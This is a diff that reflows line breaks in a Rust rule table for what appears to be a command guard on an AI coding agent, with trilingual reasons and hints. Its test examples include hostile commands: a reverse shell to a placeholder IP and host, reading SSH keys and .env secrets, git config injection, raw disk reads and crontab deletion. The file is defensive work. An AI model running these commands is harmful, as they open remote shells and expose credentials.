@@ -25,14 +25,12 @@ rules! {
         reason text("It writes outside the project.", "它會寫到專案以外。", "它会写到项目以外。")
         hint text("Write below the project's root or below /tmp.", "請寫在專案根目錄或 /tmp 底下。", "请写在项目根目录或 /tmp 下。")
         matches [Bash("echo x > /etc/motd"), Bash("cp a.txt ~/b.txt"),
-            Bash("echo x | tee /usr/local/bin/x")]
-        not_matches [Bash("echo x > out.txt"), Bash("echo x > /tmp/out.txt"),
-            Bash("make 2> /dev/null")];
+            Bash("echo x | tee /usr/local/bin/x")] not_matches [Bash("echo x > out.txt"),
+            Bash("echo x > /tmp/out.txt"), Bash("make 2> /dev/null")];
     FsWriteGit = "fs.write-git", Command;
         reason text("It writes into git's own data.", "它會寫入 git 自己的資料。", "它会写入 git 自己的数据。")
         hint text("Use git's commands to change the repository.", "請用 git 的命令來更改儲存庫。", "请用 git 的命令来更改仓库。")
-        matches [Bash("echo x > .git/HEAD")]
-        not_matches [Bash("echo x > .gitignore")];
+        matches [Bash("echo x > .git/HEAD")] not_matches [Bash("echo x > .gitignore")];
     PathOutside = "path.outside", Outside;
         reason text("The file lies outside the project.", "檔案在專案以外。", "文件在项目以外。")
         hint text("Work on files below the project's root; a person can allow a path with guard.allow_paths.", "請處理專案根目錄底下的檔案；可由人用 guard.allow_paths 允許某路徑。", "请处理项目根目录下的文件；可由人用 guard.allow_paths 允许某路径。")
@@ -57,9 +55,8 @@ rules! {
         reason text("The file holds secrets.", "這個檔案存有機密。", "这个文件存有机密。")
         hint text("Use the example file (for example .env.example) or ask for the value you need.", "請改用範例檔（例如 .env.example），或請人提供需要的值。", "请改用示例文件（例如 .env.example），或请人提供需要的值。")
         matches [Read(".env"), Bash("cat .env"), Bash("cat ~/.ssh/id_rsa"),
-            Bash("base64 server.pem")]
-        not_matches [Read(".env.example"), Bash("cat .env.example"), Read("src/tokenizer.rs"),
-            Bash("grep -n dotenv src/env.ts")];
+            Bash("base64 server.pem")] not_matches [Read(".env.example"), Bash("cat .env.example"),
+            Read("src/tokenizer.rs"), Bash("grep -n dotenv src/env.ts")];
     SecretEnvironment = "secret.environment", Sensitive;
         reason text("It prints variables that hold secrets.", "它會印出存有機密的變數。", "它会打印存有机密的变量。")
         hint text("Print the one variable that you need by name, if it is no secret.", "只印出需要的那個（非機密的）變數。", "只打印需要的那个（非机密的）变量。")
@@ -97,8 +94,7 @@ rules! {
     GitForceWithLease = "git.force-with-lease", Command, off: true;
         reason text("It overwrites a branch, if nobody else pushed to it.", "若無他人推送，它會覆寫分支。", "若无他人推送，它会覆写分支。")
         hint text("Push without force.", "請勿強制推送。", "请勿强制推送。")
-        matches [Bash("git push --force-with-lease")]
-        not_matches [Bash("git push")];
+        matches [Bash("git push --force-with-lease")] not_matches [Bash("git push")];
     GitDeleteRemote = "git.delete-remote", Command;
         reason text("It deletes a branch or tag on the server.", "它會刪除伺服器上的分支或標籤。", "它会删除服务器上的分支或标签。")
         hint text("Leave branches on the server to a person.", "伺服器上的分支請由人處理。", "服务器上的分支请由人处理。")
@@ -139,10 +135,9 @@ rules! {
     GitConfigInjection = "git.config-injection", Command;
         reason text("It makes git run another program or look elsewhere.", "它會讓 git 執行別的程式或改看別處。", "它会让 git 执行别的程序或改看别处。")
         hint text("Use git with its own settings.", "請用 git 原有的設定。", "请用 git 原有的设置。")
-        matches [Bash("git -c core.sshCommand=./x fetch"),
-            Bash("git config core.hooksPath /tmp/h"), Bash("git -c alias.x='!sh' x")]
-        not_matches [Bash("git -c user.name=x commit -m y"), Bash("git -c core.pager=cat log"),
-            Bash("git config user.email a@example.com")];
+        matches [Bash("git -c core.sshCommand=./x fetch"), Bash("git config core.hooksPath /tmp/h"),
+            Bash("git -c alias.x='!sh' x")] not_matches [Bash("git -c user.name=x commit -m y"),
+            Bash("git -c core.pager=cat log"), Bash("git config user.email a@example.com")];
     // The network and code from it.
     NetPipeToShell = "net.pipe-to-shell", Command;
         reason text("It runs what it downloads.", "它會執行下載的內容。", "它会执行下载的内容。")
@@ -168,8 +163,7 @@ rules! {
         reason text("It connects a shell to the network.", "它會把 shell 接上網路。", "它会把 shell 接上网络。")
         hint text("Do not run it.", "請勿執行。", "请勿运行。")
         matches [Bash("bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"),
-            Bash("nc -e /bin/sh example.com 4444")]
-        not_matches [Bash("nc -z localhost 5432")];
+            Bash("nc -e /bin/sh example.com 4444")] not_matches [Bash("nc -z localhost 5432")];
     NetListen = "net.listen", Command;
         reason text("It opens this machine to the network.", "它會把這台機器開放給網路。", "它会把这台机器开放给网络。")
         hint text("Use the project's development server on localhost.", "請用專案在 localhost 的開發伺服器。", "请用项目在 localhost 的开发服务器。")
@@ -221,13 +215,11 @@ rules! {
     SystemSchedule = "system.schedule", Command;
         reason text("It plans commands for later, outside the loop.", "它會安排迴圈之外的排程命令。", "它会安排循环之外的定时命令。")
         hint text("Run the command now, within the project.", "請在專案中立即執行。", "请在项目中立即运行。")
-        matches [Bash("crontab -r"), Bash("echo 'make' | at now")]
-        not_matches [Bash("crontab -l")];
+        matches [Bash("crontab -r"), Bash("echo 'make' | at now")] not_matches [Bash("crontab -l")];
     SystemAccounts = "system.accounts", Command;
         reason text("It changes the accounts of the machine.", "它會更改機器的帳號。", "它会更改机器的账号。")
         hint text("Leave accounts to a person.", "帳號請由人處理。", "账号请由人处理。")
-        matches [Bash("useradd eve"), Bash("passwd")]
-        not_matches [Bash("id"), Bash("whoami")];
+        matches [Bash("useradd eve"), Bash("passwd")] not_matches [Bash("id"), Bash("whoami")];
     SystemNetwork = "system.network", Command;
         reason text("It changes the network of the machine.", "它會更改機器的網路設定。", "它会更改机器的网络设置。")
         hint text("Leave the network to a person.", "網路設定請由人處理。", "网络设置请由人处理。")
@@ -271,8 +263,7 @@ rules! {
     DiskRawRead = "disk.raw-read", Command;
         reason text("It reads a device.", "它會讀取裝置。", "它会读取设备。")
         hint text("Read a file of the project.", "請讀取專案的檔案。", "请读取项目的文件。")
-        matches [Bash("dd if=/dev/sda of=disk.img")]
-        not_matches [Bash("head -c 16 /dev/urandom")];
+        matches [Bash("dd if=/dev/sda of=disk.img")] not_matches [Bash("head -c 16 /dev/urandom")];
     DiskMount = "disk.mount", Command;
         reason text("It changes what is mounted.", "它會更改掛載。", "它会更改挂载。")
         hint text("Leave mounts to a person.", "掛載請由人處理。", "挂载请由人处理。")
@@ -347,8 +338,7 @@ rules! {
     OpaqueTooLarge = "opaque.too-large", Command;
         reason text("The command is too long or too deeply nested to be read.", "命令太長或巢狀太深，無法讀取。", "命令太长或嵌套太深，无法读取。")
         hint text("Split the command, or write a script file.", "請拆開命令，或寫成腳本檔。", "请拆开命令，或写成脚本文件。")
-        matches [Nested(60)]
-        not_matches [Nested(3)];
+        matches [Nested(60)] not_matches [Nested(3)];
     OpaquePayload = "opaque.payload", Command;
         reason text("The call does not say what it would do.", "這個呼叫沒有說明它要做什麼。", "这个调用没有说明它要做什么。")
         hint text("Send the tool's input as the tool defines it.", "請依工具的定義傳入參數。", "请按工具的定义传入参数。")
